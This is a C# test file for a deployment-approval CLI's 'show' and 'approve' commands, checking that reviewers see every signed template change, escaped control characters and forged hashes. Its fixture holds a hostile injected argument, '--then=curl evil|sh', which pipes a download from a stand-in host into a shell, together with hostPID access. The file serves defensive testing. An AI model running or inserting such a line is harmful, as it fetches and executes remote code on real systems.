using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using DeployGuard.Cli.Views;

namespace DeployGuard.Cli.Tests;

/// <summary><c>deployguard show</c>, and what <c>approve</c> shows before it asks: all that is signed, or plainly that it is not all.</summary>
public class ShowTests
{
    private const string Before = """{"spec":{"containers":[{"args":["--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json"],"name":"web"}]}}""";
    private const string After =
        """{"spec":{"containers":[{"args":["--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json --then=curl evil|sh"],"name":"web"}],"hostPID":true}}""";

    private RecordsServer? _server;

    private RecordsServer Server => _server ?? throw new InvalidOperationException("not started");

    [SetUp]
    public async Task StartAsync()
    {
        _server = await RecordsServer.StartAsync();
        Server.Hash = HashOf(After);
        Server.Template = Template(Side(After), Side(Before));
    }

    [TearDown]
    public async Task StopAsync() => await Server.DisposeAsync();

    [TestCase("show")]
    [TestCase("approve")]
    public async Task AllThatIsSignedIsShown(string command)
    {
        var run = await RunAsync(command);

        Assert.That((run.ExitCode, run.Error), Is.EqualTo((0, "")));
        Assert.That(run.Output, Does.Contain($"""
            All that differs from revision {HashOf(Before)}, which ran when this was asked for at 2026-11-27 06:00:00Z: 2 fields
            Access to the node
              + spec.hostPID: true
            Command and arguments
              ~ spec.containers[web].args
                  - * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json
                  + * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json --then=curl evil|sh
            """));
        Assert.That(run.Output, Does.Not.Contain("NOT ALL"));
    }

    [Test]
    public async Task WhereNothingRanBeforeTheWholeTemplateIsShown()
    {
        Server.Template = Template(Side(After), null);

        Assert.That((await RunAsync("show")).Output, Does.Contain("The whole template, because nothing ran before: 3 fields").And.Contain("  + spec.containers[web].name: web"));
    }

    [Test]
    public async Task WhereTheRevisionBeforeIsNotKnownItSaysSo()
    {
        Server.Template = Template(Side(After), null);
        Server.Template["spec"]!["beforeIsUnknown"] = true;

        Assert.That((await RunAsync("show")).Output, Does.Contain("The whole template, because what it replaces is not on record"));
    }

    [Test]
    public async Task WhatTheHashLeavesOutIsShownApart()
    {
        var after = Side(After);
        after["leftOut"] = Pack("""{"annotations":{"kubectl.kubernetes.io/restartedAt":"\u001b[2Jnow"}}""");
        Server.Template = Template(after, Side(Before));

        Assert.That((await RunAsync("show")).Output, Does.EndWith("""
            Not part of what is signed (the hash leaves it out, and it may change without another approval)
              + annotations[kubectl.kubernetes.io/restartedAt]: <ESC>[2Jnow
            """));
    }

    [Test]
    public async Task AnOlderChangeSaysThatItIsCutAndHowToSeeAll()
    {
        Server.Template = null;
        Server.Diff = ["spec.hostPID: (absent) -> true\u001b[2K"];

        var run = await RunAsync("show");

        Assert.That(run.ExitCode, Is.EqualTo(1));
        Assert.That(run.Output, Does.Contain("NOT ALL OF IT CAN BE SHOWN. An approval signs the whole template, also what is missing here.")
            .And.Contain("  spec.hostPID: (absent) -> true<ESC>[2K")
            .And.EndWith($"ask the requester to apply the change again, then run: kubectl deployguard show {RecordsServer.Change} -n shop"));
    }

    [Test]
    public async Task WhoMayNotReadItIsToldSo()
    {
        Server.ShowsTemplates = false;

        Assert.That((await RunAsync("show")).Output, Does.Contain("You may not read the whole template: changetemplates.deployguard.io is forbidden"));
    }

    [Test]
    public async Task ATemplateThatIsTooLargeIsNamedAsSuch()
    {
        Server.Template = Template(new JsonObject { ["templateHash"] = HashOf(After), ["bytes"] = 900 * 1024, ["tooLarge"] = true }, null);

        Assert.That((await RunAsync("approve")).Output, Does.Contain("The template is too large to be kept (900 KiB), so nobody can be shown what an approval signs."));
    }

    [Test]
    public async Task ARecordOfAnotherRevisionIsNeverShownAsThisOne()
    {
        Server.Hash = HashOf("{}");

        Assert.That((await RunAsync("show")).Output, Does.Contain("The ChangeTemplate on record is not that of this Change.").And.Not.Contain("hostPID"));
    }

    [Test]
    public async Task ATemplateThatDoesNotHashToWhatItSaysIsNotShown()
    {
        var forged = Side(Before);
        forged["templateHash"] = HashOf(After);
        Server.Template = Template(forged, null);

        Assert.That((await RunAsync("show")).Output, Does.Contain("The template on record is not the one that the hash of this Change stands for."));
    }

    private Task<CommandRun> RunAsync(string command) => Server.RunAsync([command, RecordsServer.Change, .. command == "approve" ? (string[])["--yes"] : []]);

    private static JsonObject Template(JsonObject after, JsonObject? before)
    {
        var spec = new JsonObject { ["at"] = "2026-11-27T06:00:00Z", ["after"] = after };
        if (before is not null)
        {
            spec["before"] = before;
        }

        return new JsonObject { ["metadata"] = new JsonObject { ["name"] = RecordsServer.Change }, ["spec"] = spec };
    }

    private static JsonObject Side(string json) => new() { ["templateHash"] = HashOf(json), ["bytes"] = json.Length, ["template"] = Pack(json) };

    private static string Pack(string text)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(Encoding.UTF8.GetBytes(text));
        }

        return Convert.ToBase64String(packed.ToArray());
    }

    private static string HashOf(string json) => $"v2:{Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(json)))}";
}
